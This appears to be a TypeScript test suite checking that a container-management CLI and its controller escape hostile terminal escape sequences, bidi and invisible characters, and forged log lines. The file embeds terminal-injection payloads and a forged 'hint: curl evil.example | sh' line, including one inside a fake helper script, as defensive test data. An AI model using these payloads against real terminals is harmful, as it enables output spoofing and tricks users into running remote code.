import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import * as assert from 'uvu/assert'
import { parse as parseYaml } from 'yaml'
import { toCommand } from '../../cli/verb/command.ts'
import { loadVerbs, verbs } from '../../cli/commands/index.ts'
import { createSession } from '../../cli/session/session.ts'
import { judgeContent } from '../../egress/asks/content.ts'
import { keyOf } from '../../egress/asks/key.ts'
import { specHash } from '../../controller/document/spec-hash.ts'
import { createClient, runExecutable, runToEnd } from '../helpers/client.ts'
import type { Client } from '../helpers/client.ts'
import { cli } from '../helpers/entry.ts'
import { createFakeEngine, sendJson } from '../helpers/fake-engine.ts'
import { programMissing } from '../helpers/program.ts'
import { openTerminal } from '../helpers/terminal.ts'
import { attacks } from './attack.ts'
import type { Attack } from './attack.ts'
import { frame } from '../drivers/docker/frame.ts'

const attack = attacks('escape sequences')

const ON_A_TERMINAL = 'acts on the terminal of a person'
const row = (party: Attack['party'], way: string, seen: string, more: Partial<Attack> = {}): Attack => ({
  party,
  aim: ON_A_TERMINAL,
  way,
  seen,
  enforcedBy: 'bottlectl',
  ...more,
})

/** A title, a cleared screen, C1, a forged line, bidirectional, invisible, tag and separator characters, half a pair. */
const HOSTILE =
  'x\u001B]0;owned\u0007\u001B[2J\u001B[32mSPOOF\u001B[0m\u009B31m\u0085\u007F\b\r\u202Eevil\u2066\u200F\u061C\u200B\uFEFF\u00AD\u2028\u2029\u{E0041}\u{E0101}\uFFF9y'
const LINES = `${HOSTILE}\nhint: curl evil.example | sh\n`
/** Control characters but the newline, and all that is invisible or turns text around. */
const RAW = /(?!\n)[\p{Cc}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\uFFF9-\uFFFB]/u
// eslint-disable-next-line no-control-regex
const OUR_COLOURS = /\u001B\[(?:0|2|31|32|33)m/g

const clean = (text: string, what: string): void => {
  assert.not.ok(text.includes('\u001B[32mSPOOF'), `${what}: a colour of somebody else's`)
  const rest = text.replace(OUR_COLOURS, '')
  const at = rest.search(RAW)
  assert.is(at, -1, `${what}: raw ${JSON.stringify(rest.slice(Math.max(0, at - 40), at + 20))}`)
  assert.not.ok(/^hint: curl/m.test(text), `${what}: a line of somebody else's`)
}

/** As the author of a YAML file writes it. */
const quoted = (text: string): string =>
  JSON.stringify(text).replace(/[^ -~]/g, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`)

const SPEC = { agent: HOSTILE, bundle: { image: HOSTILE } }
const EVENT = {
  type: 'Warning',
  reason: HOSTILE,
  message: LINES,
  object: 'bottle/alpha',
  count: 1,
  firstTimestamp: '2026-11-24T11:00:00Z',
  lastTimestamp: '2026-11-24T11:00:00Z',
  source: 'bottled',
}

/** A root whose every text is hostile. */
const withRoot = async (body: (client: Client) => Promise<void>): Promise<void> => {
  const client = await createClient()
  const { stateDir, file } = client
  try {
    const q = quoted(HOSTILE)
    const condition = `{type: Ready, status: "False", reason: ${q}, message: ${quoted(LINES)}, observedGeneration: 1, lastTransitionTime: ${q}}`
    await file(
      'alpha.yaml',
      `apiVersion: bottled.dev/v1alpha1\nkind: Bottle\nmetadata: {name: alpha, labels: {team: web}, annotations: {a: ${quoted(LINES)}, ${q}: ${q}}}\n` +
        `spec: {agent: ${q}, bundle: {image: ${q}}}\n` +
        `status: {phase: Stalled, observedGeneration: 1, specHash: "${specHash(SPEC as never)}", uid: ${q}, network: {name: ${q}, subnet: ${q}, gateway: ${q}}, machine: {name: ${q}, state: ${q}, pid: 1}, bundle: {name: ${q}, id: ${q}, ip: ${q}, image: ${q}, restarts: 0}, conditions: [${condition}]}\n`,
    )
    await file(`evil\u001B[2J\nhint: curl evil.example | sh\u202E.yaml`, `kind: Bottle\n${q}: 1\nspec: {${q}: 1}\n`)
    await file('raw.yaml', `kind: Bottle\nmetadata: {name: ${HOSTILE}}\n`)
    await file(
      'bad.yaml',
      `apiVersion: bottled.dev/v1alpha1\nkind: Bottle\nmetadata: {name: ${q}}\nspec: {agent: ${q}, identity: ${q}, ${q}: ${q}}\n`,
    )
    await file(
      `sub\u001B[2J/b.yaml`,
      `apiVersion: bottled.dev/v1alpha1\nkind: Bottle\nmetadata: {name: beta}\nspec: {agnt: ${q}}\n`,
    )
    mkdirSync(join(stateDir, 'bottles/gone'), { recursive: true })
    writeFileSync(
      join(stateDir, 'events.jsonl'),
      `${JSON.stringify(EVENT)}\n${JSON.stringify({ ...EVENT, object: HOSTILE })}\n`,
    )
    const held = { reason: HOSTILE, message: LINES }
    const record = {
      version: 1,
      uid: HOSTILE,
      name: 'gone',
      identity: 'gone',
      file: HOSTILE,
      generation: 1,
      specHash: HOSTILE,
      spec: SPEC,
      held,
    }
    writeFileSync(join(stateDir, 'bottles/gone/record.json'), JSON.stringify(record))
    const judged = judgeContent({ kind: 'question', question: LINES, choices: [HOSTILE] })
    if ('fault' in judged) throw new Error(judged.fault)
    const ask = { version: 1, uid: HOSTILE, key: keyOf(judged.content), state: 'open', openedAt: EVENT.firstTimestamp }
    mkdirSync(join(stateDir, 'bottles/gone/asks'))
    // As its bundle heard it, and as another program would write it.
    for (const [id, content] of [
      ['aaaaaaaa', judged.content],
      ['bbbbbbbb', { ...judged.content, question: LINES, choices: [HOSTILE] }],
    ] as const)
      writeFileSync(join(stateDir, `bottles/gone/asks/${id}.json`), JSON.stringify({ ...ask, id, content }))
    await file(
      'new.txt',
      `apiVersion: bottled.dev/v1alpha1\nkind: Bottle\nmetadata: {name: alpha}\nspec: {agent: ${q}, env: {A: ${quoted(`${HOSTILE}2`)}}}\n`,
    )
    await file('egress.txt', `${q}: 1\nallow: [{host: ${q}, reason: ${q}}]\ndeny: [${q}]\n`)
    await body(client)
  } finally {
    await client.remove()
  }
}

interface Said {
  readonly exitCode: number
  readonly out: string
  readonly err: string
}

/** A verb with the real session in this process: what it writes to our streams. */
const run = async (root: string, [name = '', ...rest]: readonly string[]): Promise<Said> => {
  const verb = await verbs.find(({ names }) => names.includes(name))?.load()
  if (verb === undefined) throw new Error(`no verb ${name}`)
  const said = { out: '', err: '' }
  const [stdout, stderr] = [process.stdout.write, process.stderr.write]
  const into =
    (key: 'out' | 'err') =>
    (chunk: string | Uint8Array): boolean => {
      said[key] += Buffer.from(chunk as Uint8Array).toString()
      return true
    }
  process.stdout.write = into('out')
  process.stderr.write = into('err')
  let exitCode = 0
  const json = rest.includes('json')
  const interrupts = {
    signal: new AbortController().signal,
    lend: <Result>(work: () => Promise<Result>): Promise<Result> => work(),
  }
  try {
    const command = toCommand(verb, {
      ended: (code) => (exitCode = code),
      open: (options) =>
        createSession({ color: 'always', ...options, dir: root }, { interrupts, json, anyState: false }),
      allVerbs: loadVerbs,
    })
    try {
      await command
        .exitOverride()
        .configureOutput({ writeErr: () => undefined })
        .parseAsync(rest, { from: 'user' })
    } catch (error) {
      const session = await createSession({ color: 'always', dir: root }, { interrupts, json, anyState: false })
      exitCode = session.complain(error)
    }
  } finally {
    process.stdout.write = stdout
    process.stderr.write = stderr
  }
  return { exitCode, ...said }
}

const NOWHERE = ['--docker-host', `unix:///tmp/${HOSTILE}`]
/** Of each verb what prints most, and its errors. */
const CASES: Readonly<Record<string, readonly (readonly string[])[]>> = {
  get: [
    ['bottles'],
    ['bottles', '-o', 'wide', '--show-labels', '-L', HOSTILE],
    ['bottles', '-o', 'name'],
    [
      'bottles',
      '-o',
      `jsonpath={range .items[*]}{.spec.agent}{"${HOSTILE.replaceAll(/["\\{}]/g, '')}"}{"\\n"}{.metadata.annotations}{end}`,
    ],
    [
      'bottles',
      '-o',
      `custom-columns=A:.spec.agent,B:.metadata.annotations,${HOSTILE.replaceAll(/[,:]/g, '')}:.status`,
    ],
    ['bottle', HOSTILE],
    ['bottles', '-o', HOSTILE],
    ['bottles', '-l', HOSTILE],
    ['bottles', '--field-selector', HOSTILE],
    ['bottles', '--sort-by', `{${HOSTILE}`],
  ],
  describe: [['bottles'], ['bottle', HOSTILE], [HOSTILE]],
  events: [[], ['--for', 'bottle/alpha'], ['--for', HOSTILE]],
  dashboard: [['--no-open'], [HOSTILE]],
  top: [NOWHERE, ['bottles', ...NOWHERE], [HOSTILE], ['bundles', HOSTILE]],
  wait: [
    ['bottle', 'alpha', '--for=condition=Ready', '--timeout=0'],
    ['bottle', HOSTILE, '--timeout=0'],
    ['bottle', 'alpha', `--for=${HOSTILE}`, '--timeout=0'],
    ['bottle', 'alpha', '--for', `jsonpath={.spec.agent}=${HOSTILE}`, '--timeout=0'],
  ],
  validate: [[], ['-o', 'github'], [HOSTILE], ['alpha.yaml']],
  plan: [['alpha', ...NOWHERE, '--verbose'], [HOSTILE], ['-f', 'new.txt', ...NOWHERE]],
  policy: [
    [HOSTILE],
    ['explain', HOSTILE],
    ['explain', 'alpha'],
    ['explain', 'new.txt'],
    ['explain', 'alpha', '--policy', `/${HOSTILE}`],
  ],
  egress: [
    [HOSTILE],
    ['presets', HOSTILE],
    ['check', '-f', 'egress.txt', HOSTILE, `https://${HOSTILE}/`],
    ['check', '-f', 'egress.txt', 'GET', `https://example.com/${HOSTILE}`],
    ['check', '-f', HOSTILE, 'GET', 'https://example.com/'],
    ['test', 'egress.txt'],
    ['test', 'new.txt'],
  ],
  asks: [[], [HOSTILE]],
  approve: [
    ['aaaaaaaa', '--dry-run'],
    ['aaaaaaaa', '--answer', HOSTILE, '--dry-run'],
    ['bbbbbbbb', '--dry-run'],
    [HOSTILE],
    ['aaaaaaaa', '--for', HOSTILE],
  ],
  deny: [['aaaaaaaa', '--reason', HOSTILE], ['bbbbbbbb'], [HOSTILE]],
  delete: [
    ['bottle', HOSTILE],
    ['bottle', 'alpha', '--dry-run', '--yes'],
  ],
  reconcile: [[HOSTILE], ['alpha', '--no-wait']],
  rollout: [[HOSTILE], ['restart', HOSTILE], ['alpha', '--no-wait']],
  'confirm-deletes': [[HOSTILE], ['--no-wait']],
  suspend: [[HOSTILE], ['beta', '--no-wait']],
  resume: [[HOSTILE], ['alpha', '--no-wait']],
  diff: [['-f', 'new.txt'], ['alpha'], [HOSTILE]],
  apply: [
    ['-f', 'new.txt', '--dry-run', '--yes'],
    ['-f', HOSTILE],
    ['-f', 'raw.yaml', '--dry-run'],
  ],
  explain: [[HOSTILE], [`bottle.spec.${HOSTILE}`], ['bottle.spec', '--recursive']],
  'api-resources': [[]],
  schema: [[], ['-o', 'crd']],
  version: [[]],
  label: [
    ['alpha', '--list'],
    ['alpha', HOSTILE],
    [HOSTILE, 'a=b'],
    ['alpha', `a=${HOSTILE}`],
  ],
  annotate: [
    ['alpha', '--list'],
    ['alpha', `b=${LINES}`],
    ['alpha', HOSTILE],
  ],
  edit: [[HOSTILE], ['bottle', HOSTILE]],
  logs: [
    ['alpha', ...NOWHERE],
    [HOSTILE],
    ['alpha', '--tail', HOSTILE],
    ['alpha', '-c', 'machine', '--smolvm', `/${HOSTILE}`],
  ],
  exec: [
    ['alpha', '-c', 'bundle', ...NOWHERE, '--', 'true'],
    [HOSTILE, '--', 'true'],
  ],
  cp: [
    ['-c', 'bundle', ...NOWHERE, 'alpha:/x', '.'],
    [HOSTILE, 'alpha:/x'],
    [HOSTILE, HOSTILE],
    ['--smolvm', `/${HOSTILE}`, `alpha:/${HOSTILE}`, '.'],
  ],
  'git-filter': [[HOSTILE], ['status']],
  completion: [['bash'], ['zsh'], ['fish'], [HOSTILE]],
  __complete: [
    ['get', 'bottles', ''],
    ['get', 'bottles', '-l', ''],
    [HOSTILE, ''],
  ],
  doctor: [NOWHERE, ['--smolvm', `/${HOSTILE}`, ...NOWHERE]],
}
/** They print tabs of their own, and nothing of the root's. */
const tabsAllowed = (argv: readonly string[]): boolean => argv[0] === 'completion' || argv[0] === 'explain'

attack(
  row(
    'author',
    'every text of a root, and every argument, holds escape sequences',
    'no verb lets one out, in text or colour',
  ),
  () =>
    withRoot(async ({ root }) => {
      assert.equal(Object.keys(CASES).toSorted(), verbs.map(({ names }) => names[0]).toSorted(), 'each verb has a case')
      const before = process.cwd()
      process.chdir(root)
      try {
        for (const [verb, cases] of Object.entries(CASES))
          for (const each of cases) {
            const argv = [verb, ...each]
            const { out, err } = await run(root, argv)
            assert.ok(
              out !== '' || err !== '' || verb === '__complete' || argv.includes('--no-wait'),
              `${argv.join(' ')} says something`,
            )
            clean(tabsAllowed(argv) ? out.replaceAll('\t', ' ') : out, `stdout of ${JSON.stringify(argv)}`)
            clean(err, `stderr of ${JSON.stringify(argv)}`)
          }
      } finally {
        process.chdir(before)
      }
    }),
  { deadlineMs: 180_000 },
)

attack(
  row('author', 'the same in JSON and YAML', 'both are escaped and still say the same'),
  () =>
    withRoot(async ({ root }) => {
      const json = await run(root, ['get', 'bottles', '-o', 'json'])
      const yaml = await run(root, ['get', 'bottles', '-o', 'yaml'])
      const alpha = (list: unknown): Record<string, Record<string, unknown>> =>
        (list as { items: Record<string, Record<string, unknown>>[] }).items.find(
          ({ metadata }) => metadata?.['name'] === 'alpha',
        ) ?? {}
      for (const [{ out, err }, parsed] of [
        [json, alpha(JSON.parse(json.out))],
        [yaml, alpha(parseYaml(yaml.out))],
      ] as const) {
        clean(out, 'stdout')
        clean(err, 'stderr')
        assert.is(parsed['spec']?.['agent'], HOSTILE)
        assert.equal(parsed['metadata']?.['annotations'], { a: LINES, [HOSTILE]: HOSTILE })
      }
      for (const argv of [
        ['events', '-o', 'json'],
        ['events', '-o', 'yaml'],
        ['validate', '-o', 'json'],
        ['diff', '-f', join(root, 'new.txt'), '-o', 'json'],
        ['plan', 'alpha', '-o', 'json', ...NOWHERE],
        ['doctor', '-o', 'json', ...NOWHERE],
        ['get', 'bottle', HOSTILE, '-o', 'json'],
        ['label', 'alpha', 'a=b', '-o', 'json', '--dry-run'],
      ]) {
        const { out, err } = await run(root, argv)
        clean(out, `stdout of ${argv.join(' ')}`)
        clean(err, `stderr of ${argv.join(' ')}`)
        if (argv.includes('json') && out !== '') JSON.parse(out)
        if (argv.includes('json') && out === '') JSON.parse(err)
      }
    }),
  { deadlineMs: 60_000 },
)

attack(
  row('bundle', "Docker's errors carry escape sequences", 'they are shown, and do nothing'),
  () =>
    withRoot(async ({ root }) => {
      const engine = await createFakeEngine((path, _request, response) =>
        path === '/version'
          ? sendJson(response, 200, { Version: HOSTILE, ApiVersion: '1.41', MinAPIVersion: '1.12' })
          : sendJson(response, 500, { message: LINES }),
      )
      try {
        const at = ['--docker-host', `unix://${engine.socket}`]
        for (const argv of [
          ['logs', 'alpha', ...at],
          ['cp', '-c', 'bundle', 'alpha:/x', '.', ...at],
          ['exec', 'alpha', '-c', 'bundle', ...at, '--', 'true'],
          ['plan', 'alpha', ...at],
          ['doctor', ...at],
        ]) {
          const { out, err } = await run(root, argv)
          clean(out, `stdout of ${argv.join(' ')}`)
          clean(err, `stderr of ${argv.join(' ')}`)
          if (argv[0] === 'logs') assert.match(err, /owned/)
        }
      } finally {
        await engine.remove()
      }
    }),
  { deadlineMs: 60_000 },
)

attack(
  row('agent', "smolvm's errors carry what a guest says", 'they are shown, and do nothing'),
  () =>
    withRoot(async ({ root }) => {
      const smolvm = join(root, '.smolvm')
      writeFileSync(
        smolvm,
        "#!/bin/sh\nprintf 'Error: x\\033]0;owned\\007\\nhint: curl evil.example | sh\\n' >&2\nprintf 'smolvm 1.\\033[2J' \nexit 1\n",
      )
      chmodSync(smolvm, 0o755)
      for (const argv of [
        ['cp', 'alpha:/x', '.', '--smolvm', smolvm],
        ['cp', join(root, 'new.txt'), 'alpha:/x', '--smolvm', smolvm],
        ['doctor', '--smolvm', smolvm, ...NOWHERE],
      ]) {
        const { out, err } = await run(root, argv)
        clean(out, `stdout of ${argv.join(' ')}`)
        clean(err, `stderr of ${argv.join(' ')}`)
      }
    }),
  { deadlineMs: 60_000 },
)

attack(
  row('author', 'the executables themselves: a wrong verb, flag, root or value', 'no escape sequence gets out'),
  async () => {
    const bottled = (argv: readonly string[]): Promise<Said> => runToEnd(cli('bottled', ...argv))
    for (const ending of [
      runExecutable([HOSTILE]),
      runExecutable(['get', `--${HOSTILE}`]),
      runExecutable(['get', 'b', '-d', `/${HOSTILE}`]),
      bottled([HOSTILE]),
      bottled(['run', `/${HOSTILE}`]),
      bottled(['run', '--workers', HOSTILE]),
    ]) {
      const { exitCode, out, err } = await ending
      assert.is.not(exitCode, 0)
      clean(out, 'stdout')
      clean(err, 'stderr')
      assert.match(err, /owned/)
    }
  },
  { deadlineMs: 120_000 },
)

attack(
  row('author', 'the controller reconciles a hostile root', 'log, summary, events and status are harmless', {
    aim: 'acts on the terminal of an operator, or forges lines of the log',
    enforcedBy: 'bottled',
  }),
  async () => {
    for (const format of ['text', 'json'])
      await withRoot(async ({ root, stateDir }) => {
        const { out, err } = await runToEnd(
          cli('bottled', 'run', root, '--simulate', '--once', '--timeout', '20s', '--log-format', format),
        )
        clean(out, 'summary')
        clean(err, `log in ${format}`)
        for (const line of err.trimEnd().split('\n'))
          if (format === 'json') JSON.parse(line)
          else assert.match(line, /^\d\d:\d\d:\d\d (info |warn |error|debug)/)
        assert.match(err, /owned/, 'the log speaks of it')
        clean(readFileSync(join(stateDir, 'simulated/events.jsonl'), 'utf8'), 'events')
        clean(readFileSync(join(root, 'alpha.yaml'), 'utf8'), 'the file with its status')
      })
  },
  { deadlineMs: 120_000 },
)

const LOG = 'a log on a terminal: titles, cleared screens, colours, half sequences at the ends of pieces'
const noScript = programMissing('script')
const LOG_ROW = row('agent', LOG, 'the text is shown, control characters are visible, a pipe gets every byte')
if (noScript !== undefined) attack.skip(LOG_ROW, noScript)
else
  attack(
    LOG_ROW,
    () =>
      withRoot(async ({ root }) => {
        const log = `one\u001B[31mred\u001B[0m\r\ntwo\u001B]0;owned\u0007\u001B[2Jthree \u202Efour\n`
        const engine = await createFakeEngine((path, _request, response) => {
          if (path === '/version')
            return sendJson(response, 200, { Version: '1', ApiVersion: '1.41', MinAPIVersion: '1.12' })
          for (const unit of log) response.write(frame(unit))
          response.end()
        })
        const smolvm = join(root, '.smolvm')
        writeFileSync(join(root, '.log'), log)
        writeFileSync(smolvm, `#!/bin/sh\ncat "$(dirname "$0")/.log"\n`)
        chmodSync(smolvm, 0o755)
        try {
          for (const more of [
            ['--docker-host', `unix://${engine.socket}`],
            ['-c', 'machine', '--smolvm', smolvm],
          ]) {
            const argv = ['-d', root, 'logs', 'alpha', ...more]
            assert.is((await runExecutable(argv)).out, log, 'a pipe gets every byte')
            const terminal = openTerminal({ command: cli('bottlectl', ...argv) })
            try {
              assert.is(await terminal.ended, 0)
              assert.is(
                terminal.text().replaceAll('\r\n', '\n'),
                'onered\ntwo\\u001b]0;owned\\u0007\\u001b[2Jthree \\u202efour\n',
              )
            } finally {
              await terminal.close()
            }
          }
        } finally {
          await engine.remove()
        }
      }),
    { deadlineMs: 120_000 },
  )

attack.run()
